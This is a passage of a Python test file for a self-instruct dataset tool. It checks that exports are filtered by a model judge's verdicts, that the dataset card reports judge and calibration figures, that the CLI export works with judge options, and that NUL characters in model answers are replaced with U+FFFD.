    assert not (tmp_path / "x.csv").exists()
    bad = run_cli("export", "--db", str(demo_db_path), "--format", "csv", "--out", str(tmp_path / "y.csv"),
                  "--min-output-words", "9", "--max-output-words", "2")
    assert bad.returncode == 2 and "min_output_words (9) is above max_output_words (2)" in bad.stderr


# -- the model judge's filter and the card's judge section ---------------------------------------------
def judge_rows(pool: Pool, verdicts: dict, *, model: str = "judge-model") -> int:
    """A pool judge run stored by hand: {(candidate id, instance id): answers, or None for an
    answer that could not be read}."""
    run_id = pool.judge.create_run(scope="pool", config={"model": model, "backend": "offline", "mode": "chat"},
                                   items=[(c, i, None) for c, i in verdicts])
    for row, answers in zip(pool.judge.verdicts(run_id), verdicts.values()):
        if answers is None:
            pool.judge.record_answer(row["id"], {"response": "hmm", "unparseable": "no answer for valid_task",
                                                 "prompt_version": "judge-v1"})
        else:
            pool.judge.record_answer(row["id"], {"response": "ok", "prompt_version": "judge-v1", **answers})
    return run_id


def first_kept(pool: Pool, candidate_id: int) -> list[int]:
    return [r[0] for r in pool.cursor().execute(
        "SELECT id FROM instances WHERE candidate_id = ? AND status = 'kept' ORDER BY id", [candidate_id]).fetchall()]


@pytest.fixture
def judged_small(small):
    """small's tasks judged: G1's first instance has a wrong output, G2 is not a valid task, G4's
    answer could not be read, G6's input and output are wrong. Another run says G1 is not valid."""
    pool, ids = small
    yes = {"valid_task": "yes", "input_ok": "yes", "output_ok": "yes"}
    g1 = first_kept(pool, ids["G1"])
    run_id = judge_rows(pool, {
        (ids["G1"], g1[0]): {**yes, "output_ok": "no"},
        (ids["G2"], first_kept(pool, ids["G2"])[0]): {**yes, "valid_task": "no"},
        (ids["G4"], first_kept(pool, ids["G4"])[0]): None,
        (ids["G6"], first_kept(pool, ids["G6"])[0]): {**yes, "input_ok": "no", "output_ok": "no"},
    })
    other = judge_rows(pool, {(ids["G1"], g1[0]): {**yes, "valid_task": "no"}}, model="other-judge")
    return pool, ids, run_id, other


def written(pool, fmt, filters, tmp_path) -> int:
    result = write_export(pool, fmt, tmp_path / f"judge{FORMAT_INFO[fmt].extension}", filters)
    return result.records


@pytest.mark.parametrize("drop, tasks, instances, gone", [
    # hand-counted from the verdict rows above; without the filter: 4 generated tasks, 5 instances
    (("output_ok",), 3, 3, {"Suggest a name for a bakery."}),            # G1 keeps its second; G6 left empty
    (("valid_task",), 3, 4, {"Decide whether the number is odd or even."}),
    (("input_ok",), 3, 4, {"Suggest a name for a bakery."}),
    (("valid_task", "output_ok"), 2, 2, {"Decide whether the number is odd or even.",
                                         "Suggest a name for a bakery."}),
])
def test_the_judge_filter_drops_what_its_latest_verdict_calls_no(judged_small, tmp_path, drop, tasks, instances,
                                                                 gone):
    pool, ids, run_id, _ = judged_small
    every = ExportFilters(include_seeds=False)
    filters = ExportFilters(include_seeds=False, judge_run_id=run_id, judge_exclude=drop)
    before, after = pool.explore.export_counts(every), pool.explore.export_counts(filters)
    assert (before["tasks"], before["instances"]) == (4, 5)
    assert (after["tasks"], after["instances"]) == (tasks, instances)
    assert exported_tasks(pool, every) - exported_tasks(pool, filters) == gone
    for fmt in ("alpaca", "csv", "parquet"):            # counts equal the records written
        assert written(pool, fmt, filters, tmp_path) == instances
    assert written(pool, "selfinstruct", filters, tmp_path) == tasks
    assert len(export.preview_table(pool, filters, 50)) == instances
    # a judge run alone filters nothing; seeds are never judged
    assert pool.explore.export_counts(ExportFilters(include_seeds=False, judge_run_id=run_id)) == before
    with_seeds = pool.explore.export_counts(ExportFilters(judge_run_id=run_id, judge_exclude=drop))
    assert with_seeds["seed_instances"] == pool.explore.export_counts(ExportFilters())["seed_instances"]


def test_the_judge_filter_reads_one_run_and_only_readable_verdicts(judged_small):
    pool, ids, run_id, other = judged_small
    # the other run calls G1 not valid; this run does not
    assert "Summarize the paragraph in one sentence." in exported_tasks(
        pool, ExportFilters(include_seeds=False, judge_run_id=run_id, judge_exclude=("valid_task",)))
    assert "Summarize the paragraph in one sentence." not in exported_tasks(
        pool, ExportFilters(include_seeds=False, judge_run_id=other, judge_exclude=("valid_task",)))
    # G4's unreadable answer drops nothing
    assert "Explain photosynthesis to a ten year old child." in exported_tasks(
        pool, ExportFilters(include_seeds=False, judge_run_id=run_id, judge_exclude=("valid_task", "input_ok",
                                                                                     "output_ok")))


def test_judge_filter_settings_are_checked_and_described():
    with pytest.raises(ValueError, match="Choose the judge run"):
        ExportFilters(judge_exclude=("output_ok",))
    with pytest.raises(ValueError, match="not valid"):
        ExportFilters(judge_run_id=1, judge_exclude=("valid",))
    f = ExportFilters(judge_run_id=3, judge_exclude="output_ok, valid_task")
    assert f.judge_exclude == ("valid_task", "output_ok")
    assert ExportFilters.from_dict(f.to_dict()) == f
    text = " ".join(f.describe())
    assert "judge run 3" in text and "not a valid task" in text and "output it called not acceptable" in text


def test_the_card_reports_the_judge_and_what_its_filter_dropped(judged_small):
    pool, ids, run_id, _ = judged_small
    filters = ExportFilters(include_seeds=False, judge_run_id=run_id, judge_exclude=("output_ok",))
    card = export.build_card(pool, "alpaca", filters)
    md = card.markdown
    assert "## Model judge" in md and f"judge run {run_id}" in md and "`judge-model`" in md and "judge-v1" in md
    assert "3 readable verdict(s) of 4 item(s) (1 unreadable" in md
    assert "1 task(s) and 2 instance(s) fewer than without this filter" in md
    assert card.stats["judge"]["dropped"] == {"tasks": 1, "instances": 2}
    assert "No calibration against people: no quality study has labels yet" in md
    assert md.index("## Quality study") < md.index("## Model judge") < md.index("## Charts")
    # no filter: the newest pool run that judged exported tasks is reported, filtering nothing
    plain = export.build_card(pool, "alpaca", ExportFilters(include_seeds=False)).markdown
    assert "## Model judge" in plain and "Not used to filter this export" in plain
    assert "## Model judge" not in export.build_card(pool, "alpaca", ExportFilters(include_generated=False)).markdown


def test_the_card_holds_the_calibration_figures_of_calibration_calibrate(demo_pool):
    """A pool judge run of the offline judge (wrong 25% of the time), a study people labeled with
    the truth (some answers flipped): the card's kappa, precision and recall are
    calibration.calibrate's on the same items, and its pool-wide rates judge.pool_rates'."""
    from selfinstruct import calibration, quality
    from selfinstruct.judge import JudgeConfig, JudgeRunner, pool_rates, start_judge
    from selfinstruct.model import QUESTIONS
    from selfinstruct.offline import OfflineServer, judge_answer, judge_truth

    with OfflineServer(judge_error=0.25, judge_seed=4) as srv:
        config = JudgeConfig(backend="openai-compatible", base_url=srv.base_url, model="selfinstruct-demo",
                             structured="off")
        run_id = start_judge(demo_pool, config, "pool")
        assert JudgeRunner(demo_pool, run_id).run().status == "finished"
    # drawn from the judged items (the same instance of each task), so pool-wide rates may be given
    study = quality.create_study(demo_pool, "people", size=40, seed=3, judge_run=run_id).study_id
    items = demo_pool.judge.study_items(study)
    texts = {}
    for k, (c, i, item_id) in enumerate(items):
        texts[item_id] = demo_pool.cursor().execute(
            "SELECT c.instruction, i.input, i.output FROM candidates c JOIN instances i ON i.id = ? WHERE c.id = ?",
            [i, c]).fetchone()
        answers = judge_truth(*texts[item_id])
        if k % 7 == 0:
            answers["output_ok"] = {"yes": "no", "no": "yes"}[answers["output_ok"]]
        demo_pool.quality.save_label(study, item_id, "ann", **answers)
    labels = {r["item_id"]: r for r in demo_pool.quality.study_labels(study)}
    card = export.build_card(demo_pool, "chat", ExportFilters(judge_run_id=run_id, judge_exclude=("output_ok",)))
    judged = card.stats["judge"]
    assert judged["study_id"] == study
    for q in QUESTIONS:
        expected = calibration.calibrate([judge_answer(*texts[i], error=0.25, seed=4)[q] for i in labels],
                                         [[labels[i][q]] for i in labels], question=q)
        assert judged["calibration"][q] == expected
        k, p, r = expected.kappa, expected.precision, expected.recall
        assert f"{k.value:.2f} ({k.low:.2f} to {k.high:.2f})" in card.markdown
        assert f"{p.estimate:.0%} ({p.low:.0%} to {p.high:.0%}) ({p.hits}/{p.n})" in card.markdown
        assert f"{r.estimate:.0%} ({r.low:.0%} to {r.high:.0%}) ({r.hits}/{r.n})" in card.markdown
    rates = pool_rates(demo_pool, run_id, study)
    assert judged["pool_rates"] == rates
    for measure, rate in rates.items():
        assert (f"{rate.estimate:.0%} ({rate.low:.0%} to {rate.high:.0%}) | {rate.human_estimate:.0%} "
                f"({rate.human_low:.0%} to {rate.human_high:.0%}) | {rate.paper_rate:.0%} |") in card.markdown
    # the filter: what the judge called a wrong output is not in the export
    dropped = demo_pool.explore.export_counts(ExportFilters())["instances"] - demo_pool.explore.export_counts(
        ExportFilters(judge_run_id=run_id, judge_exclude=("output_ok",)))["instances"]
    no_outputs = sum(v["output_ok"] == "no" for v in demo_pool.judge.verdicts(run_id))
    assert dropped == no_outputs == judged["dropped"]["instances"] > 0


def test_cli_export_filters_by_the_judge(judged_small, tmp_path):
    pool, ids, run_id, _ = judged_small
    pool.close()
    out = tmp_path / "j.jsonl"
    done = run_cli("export", "--db", str(pool.path), "--format", "alpaca", "--out", str(tmp_path / "j.json"),
                   "--no-seeds", "--judge-run", str(run_id), "--judge-drop", "output_ok,valid_task")
    assert done.returncode == 0, done.stderr
    assert "3 task(s)" not in done.stdout and "2 task(s) (0 seed, 2 generated) with 2 instance(s)" in done.stdout
    assert f"judge run {run_id}" in done.stdout
    assert len(json.loads((tmp_path / "j.json").read_text(encoding="utf-8"))) == 2
    assert "## Model judge" in (tmp_path / "j_README.md").read_text(encoding="utf-8")
    bad = run_cli("export", "--db", str(pool.path), "--format", "alpaca", "--out", str(out),
                  "--judge-drop", "output_ok")
    assert bad.returncode == 2 and "Choose the judge run" in bad.stderr
    missing = run_cli("export", "--db", str(pool.path), "--format", "alpaca", "--out", str(out),
                      "--judge-run", "99", "--judge-drop", "output_ok")
    assert missing.returncode == 2 and "There is no judge run 99" in missing.stderr


def test_nul_in_model_answers_is_read_as_u_fffd_and_exports_reimport_as_seeds(tmp_path):
    """A model that writes NUL characters: the parsers (v2) keep U+FFFD instead, parse health
    counts those answers, and the JSONL and Alpaca exports import again as seeds. An older pool
    that stored a NUL exports it as U+FFFD too."""
    from selfinstruct import monitor
    from selfinstruct.demo import DemoModel
    from selfinstruct.offline import OfflineServer
    from selfinstruct.settings import RunConfig
    from selfinstruct.pipeline import Runner, start_run

    demo = DemoModel(seed=1)

    def with_nul(text, request_seed=0):
        answer = demo.respond(text, request_seed=request_seed)
        return answer.replace(" a ", " a\x00 ").replace(" the ", " the \x00")

    with Pool.open(tmp_path / "pool.duckdb") as pool, OfflineServer(responder=with_nul) as server:
        seeds.load_starter_seeds(pool)
        run_id = start_run(pool, RunConfig(base_url=server.base_url, rounds=2, seed=1))
        assert Runner(pool, run_id).run().status == "finished"
        cur = pool.cursor()
        assert cur.execute("SELECT count(*) FROM requests WHERE strpos(response, chr(0)) > 0").fetchone()[0] > 0
        # what the parsers read holds none (an unreadable answer kept whole as a rejected
        # instance's evidence may; exports clean it if someone rescues it)
        assert cur.execute("SELECT count(*) FROM candidates WHERE strpos(instruction, chr(0)) > 0").fetchone()[0] == 0
        assert cur.execute("SELECT count(*) FROM instances WHERE reason IS DISTINCT FROM 'unparseable' AND "
                           "(strpos(input, chr(0)) > 0 OR strpos(output, chr(0)) > 0)").fetchone()[0] == 0
        assert cur.execute("SELECT count(*) FROM candidates WHERE strpos(instruction, '\ufffd') > 0").fetchone()[0] > 0
        health = pool.runs.parse_health(run_id)
        assert sum(h["nul"] for h in health) > 0
        assert any("NUL characters" in hint for hint in monitor.parse_hints(health))
        # an answer stored by an older version, NUL and all
        cur.execute("UPDATE instances SET output = 'old' || chr(0) || 'answer' WHERE id = "
                    "(SELECT min(id) FROM instances WHERE candidate_id IS NOT NULL AND status = 'kept')")
        for fmt in ("selfinstruct", "alpaca"):
            path = tmp_path / f"out{FORMAT_INFO[fmt].extension}"
            write_export(pool, fmt, path, ExportFilters())
            text = path.read_text(encoding="utf-8")
            assert "\\u0000" not in text and "\x00" not in text and "old\ufffdanswer" in text
            with Pool.open(tmp_path / f"again-{fmt}.duckdb") as fresh:
                result = seeds.import_seeds(fresh, path)
                assert result.report.ok, result.report
                assert result.imported > 0


def test_the_same_card_renders_its_charts_once(demo_pool):
    """The Export page builds a card for its preview, its download and its write: the second
    build serves every chart from the first (the SVG text is the same), a changed pool renders
    anew."""
    from selfinstruct import charts

    charts._rendered_svg.cache_clear()
    first = export.build_card(demo_pool, "alpaca", ExportFilters(), ExportOptions())
    rendered = charts._rendered_svg.cache_info()
    assert rendered.misses == len(first.charts) >= 3 and rendered.hits == 0
    again = export.build_card(demo_pool, "alpaca", ExportFilters(), ExportOptions())
    assert again.charts == first.charts
    assert charts._rendered_svg.cache_info().misses == rendered.misses      # nothing rendered twice
    only_seeds = export.build_card(demo_pool, "alpaca", ExportFilters(include_generated=False), ExportOptions())
    assert only_seeds.charts != first.charts
